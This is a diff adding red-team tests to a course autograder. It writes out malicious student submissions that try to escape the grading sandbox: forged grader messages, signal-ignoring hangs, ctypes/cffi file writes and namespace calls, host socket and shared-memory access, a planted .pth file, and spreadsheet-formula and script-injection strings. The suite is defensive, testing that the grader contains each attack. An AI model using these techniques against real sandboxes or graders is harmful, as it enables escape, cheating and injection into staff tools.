@@ -690,3 +690,464 @@ def test_plain_conv_use_is_named_in_the_message(ch03):
     for student in ("conv_functional", "conv_aten"):
         message = _by_task(ch03["records"][student])["conv2d_torch"]["message"]
         assert "torch operator" in message and "does not allow" in message
+
+
+# ============================================================================================
+# Round two: breaking the batch, escaping the box through C, odd folders and injected text.
+# One batch of chapter 1 with two honest students among the attacks.
+# ============================================================================================
+
+import os  # noqa: E402
+import shutil  # noqa: E402
+import tempfile  # noqa: E402
+
+from autograder.batch import escape_name  # noqa: E402
+
+
+def _appended(*sources):
+    return append_cells(*sources)
+
+
+def _cffi_libc(decls):
+    return f'''
+def _libc():
+    from cffi import FFI
+    ffi = FFI()
+    ffi.cdef({decls!r})
+    return ffi, ffi.dlopen(None)
+'''
+
+
+def round2_attacks(p):
+    """student folder name -> (notebook or raw bytes or a writer, expected score)."""
+    marker, targets, site = p["marker"], p["targets"], p["site"]
+    unix_paths = [p["unix_socket"], "\0" + marker]
+    return {
+        "honest": (make_submission(A1), 10.0),
+        "honest_two": (make_submission(A1), 10.0),
+        # --- breaking the batch through the report channel ------------------------------
+        "forge_messages": (make_submission(A1, edit=_appended(r'''
+import os, sys
+fd = int(sys.argv[1])
+lines = [b'[1, 2]', b'"done"', b'{"event": "cell_start", "cell": "0"}', b'{"event": "cell_start", "cell": true}',
+         b'{"event": "cell_start", "cell": 1e400}', b'{"event": "cell_done", "cell": 99999, "error": "forged"}',
+         b'{"event": "cell_done", "cell": -1, "error": "x"}', b'{"event": "cell_done", "cell": 0, "error": "x"}',
+         b'{"event": "call_done", "task": "nope", "case": 0, "npy": null, "error": "x", "forbidden": null}',
+         b'{"event": "call_done", "task": "corr2d_loops", "case": 999, "npy": null, "error": "x", "forbidden": null}',
+         b'{"event": "call_done", "task": "corr2d_loops", "case": 0, "npy": {"a": 1}, "error": null, "forbidden": null}',
+         b'{"event": "call_done", "task": "corr2d_loops", "case": 0, "npy": "!!", "error": null, "forbidden": [1]}',
+         b'{"event": "confined", "landlock": 0, "seccomp": false, "reason": "forged"}',
+         b'{"event": "cells_done"}', b'{"event": "cells_done"}', b'{"event": "done"}', b'{"event": "done"}',
+         b'[' * 100000 + b']' * 100000, b'\xff\xfe\x00 not json', b'x' * (4 * 2**20)]
+for line in lines:
+    os.write(fd, line + b'\n')
+''')), 10.0),
+        # A forged "cells_done" (the grader then wrote the inputs synchronously and blocked
+        # forever) and a cell that ignores every signal but SIGKILL.
+        "forge_cells_done_and_hang": (make_submission(A1, edit=_appended(r'''
+import os, sys, signal
+fd = int(sys.argv[1])
+os.write(fd, b'{"event": "cells_done"}\n')
+signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP})
+while True:
+    pass
+''', r'''
+import os, sys, json
+fd = int(sys.argv[1])
+cell = [c["label"] for c in json.load(open("job.json"))["cells"]].index("added-2")
+os.write(fd, (json.dumps({"event": "cell_done", "cell": cell, "error": None}) + "\n").encode())
+os.write(fd, b'{"event": "cells_done"}\n')
+import signal
+signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
+while True:
+    pass
+''')), 10.0),
+        # Threads that outlive their cell: one spins and fills the box, one sleeps and would keep
+        # the interpreter from exiting, one ignores every signal it can.  (A thread writing to
+        # the report channel can corrupt the worker's own long messages: that costs only its
+        # own student, so it is not an attack with an honest score to test.)
+        "thread_outlives_its_cell": (make_submission(A1, edit=_appended(r'''
+import signal, threading, time
+def _spin():
+    n = 0
+    while True:
+        n += 1
+        if n % 100000 == 0:
+            try:
+                with open(f"spin{n % 7}.txt", "w") as fh:
+                    fh.write("x" * 1000)
+            except BaseException:
+                pass
+            time.sleep(0.001)
+def _sleep():
+    while True:
+        try:
+            time.sleep(1000)
+        except BaseException:
+            pass
+threading.Thread(target=_spin, daemon=True).start()
+threading.Thread(target=_sleep).start()
+''')), 10.0),
+        "ignore_sigterm": (make_submission(A1, edit=_appended(r'''
+import signal, time
+for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1, signal.SIGXCPU):
+    signal.signal(sig, signal.SIG_IGN)
+while True:
+    try:
+        time.sleep(100)
+    except BaseException:
+        pass
+''')), 10.0),
+        # --- reaching outside the box ---------------------------------------------------
+        "write_outside": (make_submission(A1, {"corr2d_vectorized": HONEST_VEC + f'''
+import os
+_TARGETS = {targets!r}
+def _escapes():
+    hits = 0
+    open("mine", "w").write("x")
+    for target in _TARGETS:
+        for attempt in (lambda: os.close(os.open(target, os.O_WRONLY | os.O_CREAT, 0o644)),
+                        lambda: os.mkdir(target + ".d"),
+                        lambda: os.symlink("/etc/passwd", target + ".ln"),
+                        lambda: os.rename("mine", target + ".mv"),
+                        lambda: os.link("mine", target + ".hl")):
+            try:
+                attempt()
+                hits += 1
+            except BaseException:
+                pass
+        try:
+            import ctypes
+            libc = ctypes.CDLL(None)
+            if libc.open((target + ".ctypes").encode(), 0o101, 0o644) >= 0:
+                hits += 1
+        except BaseException:
+            pass
+    return hits
+_HITS = _escapes()
+def corr2d_vectorized(X, K):
+    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
+'''}), 10.0),
+        "cffi_escape": (make_submission(A1, {"corr2d_vectorized": HONEST_VEC + _cffi_libc(
+            "int open(const char *, int, ...); int mkdir(const char *, unsigned int); int unshare(int);"
+            "long read(int, void *, size_t); int kill(int, int); int setns(int, int);") + f'''
+import os
+_TARGETS = {targets!r}
+def _escapes():
+    hits = 0
+    try:
+        ffi, libc = _libc()
+    except BaseException:
+        return 100  # no cffi in the sandbox: this attack would test nothing, so fail loudly
+    for target in _TARGETS:
+        if libc.open((target + ".cffi").encode(), 0o101, ffi.cast("int", 0o644)) >= 0:
+            hits += 1
+        if libc.mkdir((target + ".cffid").encode(), 0o755) == 0:
+            hits += 1
+    fd = libc.open({p["solutions_copy"]!r}.encode(), 0)
+    if fd >= 0 and libc.read(fd, ffi.new("char[64]"), 64) > 0:
+        hits += 1
+    if libc.unshare(0x10000000) == 0 or libc.unshare(0x20000) == 0:
+        hits += 1
+    if libc.kill(1, 0) == 0 and os.getpid() != 1:  # the host's init, outside any PID namespace
+        hits += 1
+    return hits
+_HITS = _escapes()
+def corr2d_vectorized(X, K):
+    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
+'''}), 10.0),
+        "unix_socket": (make_submission(A1, {"corr2d_vectorized": HONEST_VEC + _cffi_libc(
+            "int socket(int, int, int); int connect(int, const void *, unsigned int);") + f'''
+import socket
+_PATHS = {unix_paths!r}
+def _connected():
+    hits = 0
+    for path in _PATHS:
+        try:
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            s.connect(path)
+            s.sendall(b"let me in")
+            hits += 1
+        except BaseException:
+            pass
+        try:
+            ffi, libc = _libc()
+            fd = libc.socket(1, 1, 0)
+            raw = b"\\x01\\x00" + path.encode()
+            addr = ffi.new("char[]", raw)
+            if fd >= 0 and libc.connect(fd, addr, len(raw)) == 0:
+                hits += 1
+        except BaseException:
+            pass
+    return hits
+_HITS = _connected()
+def corr2d_vectorized(X, K):
+    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
+'''}), 10.0),
+        "shared_memory": (make_submission(A1, {"corr2d_vectorized": HONEST_VEC + _cffi_libc(
+            "int shmget(int, size_t, int); void *shmat(int, const void *, int); int shm_open(const char *, int, ...);"
+            "int semget(int, int, int); int msgget(int, int);") + f'''
+def _shared():
+    hits = 0
+    try:
+        from multiprocessing import shared_memory
+        shared_memory.SharedMemory(name={marker!r}, create=True, size=4096)
+        hits += 1
+    except BaseException:
+        pass
+    try:
+        with open("/dev/shm/{marker}", "wb") as fh:
+            fh.write(b"left for the next student")
+        hits += 1
+    except BaseException:
+        pass
+    try:
+        ffi, libc = _libc()
+        if libc.shmget({p["ipc_key"]}, 4096, 0o1666) >= 0:
+            hits += 1
+        if libc.semget({p["ipc_key"]}, 1, 0o1666) >= 0:
+            hits += 1
+        if libc.msgget({p["ipc_key"]}, 0o1666) >= 0:
+            hits += 1
+        if libc.shm_open(b"/{marker}-cffi", 0o102, ffi.cast("int", 0o666)) >= 0:
+            hits += 1
+    except BaseException:
+        pass
+    return hits
+_HITS = _shared()
+def corr2d_vectorized(X, K):
+    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
+'''}), 10.0),
+        "pth_in_venv": (make_submission(A1, {"corr2d_vectorized": HONEST_VEC + _cffi_libc(
+            "int open(const char *, int, ...);") + f'''
+import os
+_PTH = {os.path.join(site, marker + ".pth")!r}
+_LINE = "import os; open('/tmp/{marker}-ran', 'w').write('outside the sandbox')\\n"
+def _planted():
+    hits = 0
+    for attempt in (lambda: open(_PTH, "w").write(_LINE),
+                    lambda: os.write(os.open(_PTH + "2.pth", os.O_WRONLY | os.O_CREAT, 0o644), _LINE.encode())):
+        try:
+            attempt()
+            hits += 1
+        except BaseException:
+            pass
+    try:
+        ffi, libc = _libc()
+        if libc.open((_PTH + "3.pth").encode(), 0o101, ffi.cast("int", 0o644)) >= 0:
+            hits += 1
+    except BaseException:
+        pass
+    return hits
+_HITS = _planted()
+def corr2d_vectorized(X, K):
+    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
+'''}), 10.0),
+        # --- text that would run in the instructor's spreadsheet or browser --------------
+        "output_injection": (make_submission(A1, {"corr2d_vectorized": f'''
+def corr2d_vectorized(X, K):
+    raise ValueError({INJECTED!r})
+'''}, edit=_appended(f"raise RuntimeError({INJECTED!r})")), 7.0),
+        # --- links and odd folders -------------------------------------------------------
+        "links_inside": (make_submission(A1, {"corr2d_vectorized": read_attack("solutions.ipynb.bak", b"tensordot")}),
+                         10.0 - 3.0),  # its vectorized task is right only if the link could be read
+        "symlinked_folder": ("symlink-student", 0.0),
+        "symlinked_assignment": ("symlink-assignment", 0.0),
+        "huge_notebook": ("sparse-300MB", 0.0),
+        "many_cells": ("cells-100000", 0.0),
+        "deep_nesting": ("nested", 0.0),
+        "dots..name": (make_submission(A1), 10.0),
+        "new\nline": (make_submission(A1), 10.0),
+        "x" * 250: (make_submission(A1), 10.0),
+        os.fsdecode(b"\xff\xfe-not-utf8"): (make_submission(A1), 10.0),
+        '=HYPERLINK("evil.example?"&A1,"x")': (make_submission(A1), 10.0),
+        "<img src=x onerror=alert(1)>": (make_submission(A1), 10.0),
+    }
+
+
+INJECTED = ('=HYPERLINK("http://evil.example") <script>alert(1)</script> [click](javascript:alert(1)) '
+            '![t](http://evil.example/t.png) | fake | cells |')
+
+
+def _write_round2(root, attacks, p):
+    for student, (what, _) in attacks.items():
+        if isinstance(what, dict):
+            write_submission(root, student, A1, what)
+    victim = root / "honest" / A1 / f"{A1}.ipynb"
+    folder = root / "links_inside" / A1
+    (folder / "solutions.ipynb.bak").symlink_to(p["solutions_copy"])
+    os.link(victim, folder / "victim.ipynb~")
+    (root / "symlinked_folder").symlink_to(root / "honest", target_is_directory=True)
+    (root / "symlinked_assignment").mkdir()
+    (root / "symlinked_assignment" / A1).symlink_to(root / "honest" / A1, target_is_directory=True)
+    big = root / "huge_notebook" / A1
+    big.mkdir(parents=True)
+    with open(big / f"{A1}.ipynb", "wb") as fh:
+        fh.truncate(300 * 2**20)  # sparse: 300 MiB to the grader, nothing on disk
+    nb = make_submission(A1)
+    nb["cells"] += [{"cell_type": "code", "metadata": {}, "source": "", "outputs": [],
+                     "execution_count": None}] * 100_000
+    write_submission(root, "many_cells", A1, nb)
+    write_submission(root, "deep_nesting", A1,
+                     raw=b'{"cells": [], "metadata": ' + b"[" * 200_000 + b"]" * 200_000 + b"}")
+
+
+class _UnixListener:
+    """Listeners on a host path and an abstract name, recording what connects."""
+
+    def __init__(self, path, abstract):
+        self.accepted = []
+        self.socks = []
+        for address in (path, "\0" + abstract):
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            s.bind(address)
+            s.listen(4)
+            s.settimeout(0.2)
+            self.socks.append(s)
+        if os.path.exists(path):
+            os.chmod(path, 0o777)
+        self._stop = False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while not self._stop:
+            for s in self.socks:
+                try:
+                    conn, _ = s.accept()
+                    self.accepted.append(s.getsockname())
+                    conn.close()
+                except OSError:
+                    pass
+
+    def close(self):
+        self._stop = True
+        self.thread.join(timeout=2)
+        for s in self.socks:
+            s.close()
+
+
+def _sysv_keys():
+    keys = set()
+    for table in ("shm", "sem", "msg"):
+        try:
+            lines = Path(f"/proc/sysvipc/{table}").read_text().splitlines()[1:]
+        except OSError:
+            continue
+        keys |= {int(line.split()[0]) for line in lines if line.split()}
+    return keys
+
+
+@pytest.fixture(scope="module")
+def round2(tmp_path_factory):
+    marker = f"redteam2-{uuid.uuid4().hex[:12]}"
+    root, out = tmp_path_factory.mktemp("submissions_r2"), tmp_path_factory.mktemp("out_r2")
+    dbdir = tmp_path_factory.mktemp("gradebook_r2")
+    site = os.path.realpath(next(p for p in sys.path if p.endswith("site-packages")))
+    old_term = Path(tempfile.mkdtemp(prefix="dlcourse-old-term-", dir="/var/tmp"))
+    os.chmod(old_term, 0o755)
+    copy = old_term / f"{A1}.ipynb"
+    shutil.copy(REPO / "solutions" / A1 / f"{A1}.ipynb", copy)
+    os.chmod(copy, 0o644)
+    places = ["/var/tmp", "/dev/shm", "/tmp", str(REPO), str(out), site]
+    p = dict(marker=marker, site=site, solutions_copy=str(copy), places=places,
+             targets=[os.path.join(d, marker) for d in places], unix_socket=f"/tmp/{marker}.sock",
+             ipc_key=int(marker[-7:], 16))
+    attacks = round2_attacks(p)
+    _write_round2(root, attacks, p)
+    listener = _UnixListener(p["unix_socket"], marker)
+    keys_before = _sysv_keys()
+    cmd = [sys.executable, "-m", "autograder", "grade", "--assignment", A1, "--submissions", str(root),
+           "--out", str(out), "--db", f"sqlite:///{dbdir / 'gb.db'}", "--workers", "2", "--cell-timeout", "3"]
+    try:
+        done = subprocess.run(cmd, capture_output=True, text=True, cwd=REPO, timeout=900)
+    finally:
+        listener.close()
+        Path(p["unix_socket"]).unlink(missing_ok=True)  # the test's own listener
+    traces = sorted(str(q) for d in places + [str(old_term)] for q in Path(d).glob(f"{marker}*"))
+    traces += [str(q) for q in Path(site).glob("*.pth") if marker in q.read_text(errors="replace")]
+    shutil.rmtree(old_term, ignore_errors=True)
+    assert done.returncode == 0, done.stderr[-3000:]
+    records = {json.loads(q.read_text())["student"]: json.loads(q.read_text())
+               for q in (out / A1 / "results").glob("*.json")}
+    return dict(attacks=attacks, records=records, out=out, db=dbdir / "gb.db", dbdir=dbdir, traces=traces,
+                listener=listener, new_ipc=_sysv_keys() - keys_before, ipc_key=p["ipc_key"],
+                stdout=done.stdout, stderr=done.stderr, marker=marker)
+
+
+def test_round2_every_submission_gets_exactly_its_honest_score(round2):
+    want = {escape_name(s): score for s, (_, score) in round2["attacks"].items()}
+    assert {s: r["score"] for s, r in round2["records"].items()} == want
+    from nbgrader.api import Gradebook
+
+    with Gradebook(f"sqlite:///{round2['db']}", course_id="dlcourse") as gb:
+        assert {s.student.id: s.score for s in gb.assignment_submissions(A1)} == want
+
+
+def test_round2_the_honest_students_in_the_same_batch_keep_full_marks(round2):
+    for student in ("honest", "honest_two"):
+        record = round2["records"][student]
+        assert record["score"] == 10 and record["notices"] == [], record
+
+
+def test_round2_nothing_is_left_outside_the_box(round2):
+    assert round2["traces"] == []
+    assert round2["ipc_key"] not in round2["new_ipc"]
+    assert round2["listener"].accepted == []
+    assert not Path(f"/tmp/{round2['marker']}-ran").exists()  # no .pth ran in the grader
+
+
+def test_round2_only_the_grader_writes_the_output_folder(round2):
+    out, ids = round2["out"], [escape_name(s) for s in round2["attacks"]]
+    expected = {A1, f"{A1}/results", f"{A1}/feedback", f"{A1}/grades.csv"}
+    expected |= {f"{A1}/results/{s}.json" for s in ids} | {f"{A1}/feedback/{s}" for s in ids}
+    expected |= {f"{A1}/feedback/{s}/{A1}.{ext}" for s in ids for ext in ("md", "html")}
+    assert set(_tree(out)) == expected
+    assert _tree(round2["dbdir"]) == ["gb.db"]
+
+
+def test_round2_hangs_and_forgeries_cost_only_their_own_cells(round2):
+    for student, count in (("forge_cells_done_and_hang", 2), ("ignore_sigterm", 1)):
+        notices = " ".join(round2["records"][student]["notices"])
+        assert notices.count("ran past its time limit") == count, notices
+    notices = round2["records"]["forge_cells_done_and_hang"]["notices"]
+    assert "'added-2'" in notices[-1] and "wrote to the grader's channel" in notices[-1]
+    assert "forged" not in json.dumps(round2["records"]["forge_messages"])
+
+
+def test_round2_refused_folders_and_notebooks_say_why(round2):
+    reasons = {"symlinked_folder": "student folder is a symbolic link",
+               "symlinked_assignment": "assignment folder is a symbolic link",
+               "huge_notebook": "300 MiB; the limit is 20 MiB",
+               "many_cells": "cells; the limit is", "deep_nesting": "nested too deeply"}
+    for student, words in reasons.items():
+        for task in round2["records"][student]["tasks"]:
+            assert task["points"] == 0 and task["message"].startswith("could not grade: ") \
+                and words in task["message"], (student, task)
+    notices = " ".join(round2["records"]["links_inside"]["notices"])
+    assert "Symbolic links are not followed" in notices and "solutions.ipynb.bak" in notices
+
+
+def test_round2_odd_folder_names_become_safe_ids_everywhere(round2):
+    with open(round2["out"] / A1 / "grades.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    students = [row[0] for row in rows[1:]]
+    assert len(students) == len(round2["attacks"])
+    assert not any(s[:1] in ("=", "+", "-", "@", "\t", "\r") for s in students)
+    assert "'" + escape_name('=HYPERLINK("evil.example?"&A1,"x")') in students
+    for name in ("new\nline", "x" * 250, os.fsdecode(b"\xff\xfe-not-utf8"), "dots..name"):
+        ident = escape_name(name)
+        assert ident.isprintable() and len(ident.encode()) <= 100
+        assert (round2["out"] / A1 / "feedback" / ident / f"{A1}.html").is_file()
+    page = (round2["out"] / A1 / "feedback" / escape_name("<img src=x onerror=alert(1)>") / f"{A1}.html").read_text()
+    assert "<img src=x" not in page and "&lt;img src=x" in page
+    assert escape_name("new\nline") == "new%0Aline"
+
+
+def test_round2_injected_output_is_text_in_every_feedback_file(round2):
+    folder = round2["out"] / A1 / "feedback" / "output_injection"
+    md, page = (folder / f"{A1}.md").read_text(), (folder / f"{A1}.html").read_text()
+    assert "&lt;script&gt;" in md and "<script>" not in md and "\\[click\\]" in md
+    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    row = next(ln for ln in md.splitlines() if ln.startswith("| `corr2d_vectorized`"))
+    assert row.count("|") - row.count("\\|") == 4
